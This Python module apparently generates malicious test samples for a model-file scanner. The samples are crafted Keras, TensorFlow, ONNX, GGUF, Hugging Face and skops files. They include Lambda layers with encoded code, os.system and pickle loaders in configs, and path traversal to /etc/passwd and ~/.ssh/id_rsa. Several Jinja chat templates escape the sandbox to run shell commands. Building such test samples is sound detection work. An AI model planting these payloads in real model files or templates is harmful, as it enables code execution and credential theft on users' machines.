"""Models of Keras, TensorFlow, ONNX, GGUF and Hugging Face, whose formats are said to be no pickles."""

from __future__ import annotations

import base64
import json
import struct
import zlib
from collections.abc import Iterator
from typing import Any

from tests.malicious_models.archives import Member, joined
from tests.malicious_models.hdf5 import EXTERNAL, WITH_CONFIGURATION
from tests.malicious_models.sample import Payload, Sample

Files = Iterator[tuple[str, str, bytes]]


def keras_object(module: str, name: str, config: Any, **more: Any) -> dict[str, Any]:
    return {"module": module, "class_name": name, "config": config, "registered_name": None, **more}


def sequential(*layers: dict[str, Any]) -> dict[str, Any]:
    first = keras_object("keras.layers", "InputLayer", {"batch_shape": [None, 3], "dtype": "float32", "name": "in"})
    return keras_object("keras", "Sequential", {"name": "sequential", "trainable": True, "layers": [first, *layers]})


def keras_archive(config: Any, *more: Member) -> bytes:
    metadata = {"keras_version": "3.9.0", "date_saved": "2026-01-02@03:04:05"}
    found = [Member("metadata.json", json.dumps(metadata).encode()), Member("config.json", json.dumps(config).encode()), *more]
    return joined(found)


def keras_configs(p: Payload) -> Iterator[tuple[str, dict[str, Any]]]:
    """Layers and functions that run code, unpickle, load or fetch something, or are of no module of Keras."""
    code = base64.b64encode(p.code).decode()
    function = keras_object("builtins", "function", "system", registered_name="function")
    lambda_value = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    yield "Lambda", sequential(keras_object("keras.layers", "Lambda", {"name": "x", "function": lambda_value, "arguments": {}}))
    old = {"name": "x", "function": [code, None, None], "function_type": "lambda", "module": "__main__"}
    yield "Lambda of Keras 2", sequential(keras_object("keras.layers", "Lambda", old))
    yield "__lambda__ in an activation", sequential(keras_object("keras.layers", "Activation", {"activation": lambda_value}))
    for module, name in (("os", "system"), ("subprocess", "getoutput"), ("builtins", "exec"), ("builtins", "eval")):
        yield f"{module}.{name} as a class", sequential(keras_object(module, name, p.shell))
        layer = {"activation": keras_object(module, "function", name, registered_name="function")}
        yield f"{module}.{name} as a function", sequential(keras_object("keras.layers", "Activation", layer))
    for module, name in (
        ("keras.utils", "get_file"),
        ("keras.src.utils.file_utils", "get_file"),
        ("keras.saving", "load_model"),
        ("keras.models", "load_model"),
        ("keras.config", "enable_unsafe_deserialization"),
        ("keras.src.utils.python_utils", "func_load"),
        ("keras.src.saving.saving_lib", "load_model"),
        ("numpy", "load"),
        ("torch", "load"),
        ("pickle", "loads"),
    ):
        yield f"{module}.{name}", sequential(keras_object(module, "function", name, registered_name="function"))
        yield f"{module}.{name} as a class", sequential(keras_object(module, name, {"origin": "http://192.0.2.1/"}))
    pickled = base64.b64encode(p.pickle).decode()
    yield "TorchModuleWrapper", sequential(keras_object("keras.layers", "TorchModuleWrapper", {"module": pickled}))
    inner = keras_object("keras.src.utils.torch_utils", "TorchModuleWrapper", {"module": {"buffer": pickled}})
    yield "TorchModuleWrapper of src", sequential(inner)
    yield "TFSMLayer", sequential(keras_object("keras.layers", "TFSMLayer", {"filepath": "/tmp/evil", "call_endpoint": "serve"}))
    yield "JaxLayer", sequential(keras_object("keras.layers", "JaxLayer", {"call_fn": function}))
    yield "StringLookup of a file", sequential(keras_object("keras.layers", "StringLookup", {"vocabulary": "/etc/passwd"}))
    yield (
        "TextVectorization of a file",
        sequential(keras_object("keras.layers", "TextVectorization", {"vocabulary": "/etc/passwd"})),
    )
    yield "registered name of another", sequential(keras_object("keras.layers", "Dense", {}, registered_name="evil>Evil"))
    yield "class of the victim's", sequential(keras_object("my_package.layers", "Evil", {"units": 1}))
    yield "class without a module", sequential({"class_name": "Evil", "config": {}})
    specification = {"class_name": "__typespec__", "spec_name": "evil.Type", "config": {}, "module": "evil"}
    yield "__typespec__ that imports", sequential(keras_object("keras.layers", "Activation", {"x": specification}))
    wrapped = keras_object("keras.layers", "Lambda", {"function": lambda_value})
    yield "Lambda in TimeDistributed", sequential(keras_object("keras.layers", "TimeDistributed", {"layer": wrapped}))
    yield "Lambda in a model in a model", sequential(sequential(sequential(wrapped)))
    compiled = sequential()
    compiled["compile_config"] = {"optimizer": "adam", "loss": keras_object("os", "function", "system")}
    yield "loss that is os.system", compiled
    built = sequential(keras_object("keras.layers", "Dense", {"units": 1}, build_config={"input_shape": wrapped}))
    yield "Lambda in what a layer is built with", built


def keras(p: Payload) -> Files:
    for name, config in keras_configs(p):
        yield name, "model.keras", keras_archive(config)
        if name in ("Lambda", "Lambda of Keras 2", "os.system as a class", "TorchModuleWrapper", "StringLookup of a file"):
            text = json.dumps(config).encode()
            yield f"{name}, HDF5", "model.h5", hdf5(text)
            yield f"{name}, JSON", "config.json", text
    plain = sequential()
    yield "pickle as weights", "model.keras", keras_archive(plain, Member("model.weights.h5", p.pickle))
    yield "pickle among the assets", "model.keras", keras_archive(plain, Member("assets/x.pkl", p.pickle))
    yield "npz with objects as weights", "model.keras", keras_archive(plain, Member("model.weights.npz", p.pickle))
    yield "asset that goes upwards", "model.keras", keras_archive(plain, Member("assets/../../x", b"{}"))
    yield "two configurations", "model.keras", keras_archive(plain, Member("config.json", json.dumps(plain).encode()))
    twice = json.dumps(plain)[:-1] + ', "config": ' + json.dumps(sequential(keras_object("os", "system", "x"))["config"]) + "}"
    yield "key given twice", "model.keras", joined([Member("metadata.json", b"{}"), Member("config.json", twice.encode())])
    yield "external links, HDF5", "model.h5", zlib.decompress(base64.b85decode(EXTERNAL))


def hdf5(configuration: bytes) -> bytes:
    """Return a model of Keras in HDF5 with another configuration, padded as JSON may be."""
    template = zlib.decompress(base64.b85decode(WITH_CONFIGURATION))
    return template.replace(b"~" * 1500, configuration.ljust(1500))


def varint(value: int) -> bytes:
    found = b""
    while value >= 0x80:
        found += bytes([value & 0x7F | 0x80])
        value >>= 7
    return found + bytes([value])


def field(number: int, value: int | str | bytes) -> bytes:
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    data = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(data)) + data


def node(name: str, op: str, **attributes: bytes) -> bytes:
    found = field(1, name) + field(2, op)
    return found + b"".join(field(5, field(1, key) + field(2, value)) for key, value in attributes.items())


def saved_model(*nodes: bytes, function: bytes = b"") -> bytes:
    """Return a SavedModel: tensorflow/core/protobuf/saved_model.proto, meta_graph.proto and graph.proto."""
    graph = b"".join(field(1, each) for each in nodes) + field(4, field(1, 1500))
    if function:
        graph += field(2, field(1, function))
    meta = field(1, field(4, "serve") + field(5, "2.15.0")) + field(2, graph)
    return field(1, 1) + field(2, meta)


OPERATIONS = (
    "ReadFile",
    "WriteFile",
    "PyFunc",
    "PyFuncStateless",
    "EagerPyFunc",
    "MatchingFiles",
    "Save",
    "SaveV2",
    "SaveSlices",
    "MergeV2Checkpoints",
    "DebugIdentity",
    "DebugIdentityV2",
    "DebugNumericSummary",
    "WriteSummary",
    "CreateSummaryFileWriter",
    "FixedLengthRecordDataset",
    "TextLineDataset",
    "TFRecordDataset",
    "WholeFileReaderV2",
    "LoadDataset",
    "SaveDataset",
    "RpcCall",
    "DebugNanCount",
    "RegisterDataset",
    "InitializeTableFromTextFileV2",
    "Recv",
    "NoSuchOpAtAll",
    "Evil>CustomOp",
    "XlaLaunch",
)


def tensorflow(p: Payload) -> Files:
    dtype = field(6, 1)
    for op in OPERATIONS:
        yield op, "saved_model.pb", saved_model(node("x", "Placeholder", dtype=dtype), node("evil", op))
    printed = node("evil", "PrintV2", output_stream=field(2, f"file://{p.marker}"))
    yield "PrintV2 to a file", "saved_model.pb", saved_model(node("x", "Placeholder", dtype=dtype), printed)
    body = field(1, field(1, "f")) + field(3, node("evil", "WriteFile"))
    yield "WriteFile in a function", "saved_model.pb", saved_model(node("x", "NoOp"), function=body)
    yield "WriteFile whose device is far", "saved_model.pb", saved_model(node("evil", "WriteFile") + field(4, "/job:far/task:0"))
    asset = field(1, 1) + field(2, field(1, field(4, "serve")) + field(2, b"") + field(6, field(2, "../../etc/passwd")))
    yield "asset that goes upwards", "saved_model.pb", asset


def onnx_model(*nodes: bytes, tensors: tuple[bytes, ...] = (), opsets: tuple[tuple[str, int], ...] = (("", 13),)) -> bytes:
    """Return an ONNX model: onnx.proto3, ModelProto."""
    value = field(1, "x") + field(2, field(1, field(1, 1) + field(2, field(1, field(1, 1)))))
    graph = b"".join(field(1, each) for each in nodes) + field(2, "g") + b"".join(field(5, each) for each in tensors)
    graph += field(11, value) + field(12, field(1, "y") + value[3:])
    imports = b"".join(field(8, (field(1, domain) if domain else b"") + field(2, version)) for domain, version in opsets)
    return field(1, 8) + field(2, "x") + field(7, graph) + imports


def onnx(p: Payload) -> Files:
    def operator(op: str, domain: str = "", *more: bytes) -> bytes:
        return field(1, "x") + field(2, "y") + field(4, op) + b"".join(more) + (field(7, domain) if domain else b"")

    relu = operator("Relu")

    def external(place: str, **more: str) -> bytes:
        entries = {"location": place, **more}
        keys = b"".join(field(13, field(1, key) + field(2, value)) for key, value in entries.items())
        return field(1, 1) + field(2, 1) + field(8, "w") + keys + field(14, 1)

    for place in (
        "../../../etc/passwd",
        "/etc/passwd",
        "C:\\secret",
        "..\\secret",
        "a/../../secret",
        "\\\\192.0.2.1\\share\\x",
        "file:///etc/passwd",
        "x\x00y",
        "",
        "~/.ssh/id_rsa",
    ):
        yield f"external data at {place!a}", "model.onnx", onnx_model(relu, tensors=(external(place),))
    yield "external data that is not there", "model.onnx", onnx_model(relu, tensors=(external("weights.bin"),))
    yield "external data beyond its file", "model.onnx", onnx_model(relu, tensors=(external("w", offset="-1", length="99"),))
    for domain, op in (
        ("ai.onnx.contrib", "PyCustomOp"),
        ("com.evil", "Run"),
        ("com.microsoft.extensions", "PyOp"),
        ("com.microsoft", "SnpeOp"),
        ("", "NoSuchOperator"),
        ("pkg.torch", "PythonOp"),
        ("org.pytorch.aten", "ATen"),
    ):
        yield f"operator {domain}:{op}", "model.onnx", onnx_model(operator(op, domain), opsets=(("", 13), (domain or "x", 1)))
    branch = field(1, "then_branch") + field(6, field(1, operator("Run", "com.evil")) + field(2, "g")) + field(20, 5)
    yield (
        "operator in a branch",
        "model.onnx",
        onnx_model(operator("If", "", field(5, branch)), opsets=(("", 13), ("com.evil", 1))),
    )
    function = field(25, field(1, "F") + field(7, operator("Run", "com.evil")) + field(10, "local"))
    used = onnx_model(operator("F", "local"), opsets=(("", 13), ("local", 1), ("com.evil", 1)))
    yield "operator in a function", "model.onnx", used + function
    yield "trailing pickle", "model.onnx", onnx_model(relu) + p.pickle


def gguf(**texts: str) -> bytes:
    def text(value: str) -> bytes:
        return struct.pack("<Q", len(value.encode())) + value.encode()

    pairs = {"general.architecture": "llama", **{key.replace("__", "."): value for key, value in texts.items()}}
    found = b"".join(text(key) + struct.pack("<I", 8) + text(value) for key, value in pairs.items())
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(pairs)) + found


def templates(p: Payload) -> Iterator[tuple[str, str]]:
    """Templates of Jinja that break out of it, where it is no sandbox."""
    run = f"({p.shell!r})"
    imported = "__builtins__['__import__']('os').system"
    for name in ("cycler", "joiner", "namespace"):
        yield name, f"{{{{ {name}.__init__.__globals__.os.system{run} }}}}"
    yield "lipsum", f"{{{{ lipsum.__globals__.os.system{run} }}}}"
    yield "lipsum, import", f"{{{{ lipsum.__globals__.{imported}{run} }}}}"
    yield "self", f"{{{{ self.__init__.__globals__.{imported}{run} }}}}"
    yield "attr filter", f"{{{{ cycler|attr('__init__')|attr('__globals__')|attr('get')('os')|attr('system'){run} }}}}"
    escaped = "cycler|attr('\\x5f\\x5finit\\x5f\\x5f')|attr('\\x5f\\x5fglobals\\x5f\\x5f')"
    yield "text with escapes", f"{{{{ {escaped}|attr('get')('os')|attr('system'){run} }}}}"
    yield "item in brackets", f"{{{{ cycler['__init__']['__globals__']['os']['system']{run} }}}}"
    yield "text put together", f"{{{{ cycler['__in' ~ 'it__']['__glo' ~ 'bals__']['os']['system']{run} }}}}"
    yield "set", f"{{% set g = cycler.__init__.__globals__ %}}{{{{ g.os.system{run} }}}}"
    yield "for", f"{{% for c in [cycler] %}}{{{{ c.__init__.__globals__.os.system{run} }}}}{{% endfor %}}"
    yield "if", f"{{% if cycler.__init__.__globals__.os.system{run} %}}{{{{ 1 }}}}{{% endif %}}{{{{ 1 }}}}"
    yield "macro", f"{{% macro m() %}}{{{{ cycler.__init__.__globals__.os.system{run} }}}}{{% endmacro %}}{{{{ m() }}}}"
    yield "do", f"{{{{ 1 }}}}{{% do cycler.__init__.__globals__.os.system{run} %}}{{{{ 1 }}}}"
    yield (
        "first subclass",
        f"{{{{ ''.__class__.__mro__[1].__subclasses__()|length }}}}{{{{ lipsum.__globals__.os.system{run} }}}}",
    )
    harmless = "{% for m in messages %}{{ m['content'] }}{% endfor %}{{ bos_token }}"
    yield "among what is harmless", harmless + f"{{{{ cycler.__init__.__globals__.os.popen{run}.read() }}}}" + harmless


def hugging_face(p: Payload) -> Files:
    yield "auto_map", "config.json", json.dumps({"model_type": "x", "auto_map": {"AutoModel": "evil--modeling.Evil"}}).encode()
    yield "auto_map of a tokenizer", "tokenizer_config.json", json.dumps({"auto_map": {"AutoTokenizer": ["t.T", None]}}).encode()
    yield (
        "custom pipeline",
        "config.json",
        json.dumps({"model_type": "x", "custom_pipelines": {"p": {"impl": "evil.Evil"}}}).encode(),
    )
    yield "auto_map, deep", "config.json", json.dumps({"model_type": "x", "text_config": {"auto_map": {"A": "e.E"}}}).encode()


def skops(p: Payload) -> Files:
    def schema(module: str, name: str, loader: str = "ObjectNode") -> bytes:
        value = {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 1, "content": None}
        return joined([Member("schema.json", json.dumps({**value, "protocol": 2, "_skops_version": "0.11.0"}).encode())])

    yield "os.system", "model.skops", schema("os", "system", "FunctionNode")
    yield "unknown type", "model.skops", schema("evil.models", "Evil")
    yield "unknown kind of node", "model.skops", schema("builtins", "list", "EvilNode")
    yield "operator.methodcaller", "model.skops", schema("operator", "methodcaller", "OperatorFuncNode")
    yield "function of the builtins", "model.skops", schema("builtins", "eval", "FunctionNode")
    inner = {"__class__": "dict", "__module__": "builtins", "__loader__": "JsonNode", "content": "1", "__id__": 1}
    text = json.dumps({**inner, "protocol": 2, "_skops_version": "0.11.0"}).encode()
    yield "pickle beside the schema", "model.skops", joined([Member("schema.json", text), Member("1.pkl", p.pickle)])


UNSURE = (
    "asset that goes upwards",
    "external data at ''",
    "external data beyond its file",
    "external data that is not there",
    "key given twice",
    "trailing pickle",
    "two configurations",
    "unknown kind of node",
)


def samples(p: Payload) -> Iterator[Sample]:
    for family, loader in (
        (keras, "keras"),
        (tensorflow, "tf"),
        (onnx, "onnx"),
        (hugging_face, "transformers"),
        (skops, "skops"),
    ):
        for name, file, data in family(p):
            yield Sample(f"{family.__name__}: {name}", file, data, loader, sure=name not in UNSURE)
    for name, template in templates(p):
        yield Sample(f"GGUF: {name}", "model.gguf", gguf(tokenizer__chat_template=template), "jinja")
        yield Sample(
            f"tokenizer_config.json: {name}", "tokenizer_config.json", json.dumps({"chat_template": template}).encode(), "jinja"
        )
        yield Sample(f"chat_template.jinja: {name}", "chat_template.jinja", template.encode(), "jinja")
    template = next(templates(p))[1]
    several = json.dumps({"chat_template": [{"name": "default", "template": template}]}).encode()
    yield Sample("tokenizer_config.json: one of several", "tokenizer_config.json", several, "jinja")
    yield Sample("GGUF: named template", "model.gguf", gguf(tokenizer__chat_template__tool_use=template), "jinja")
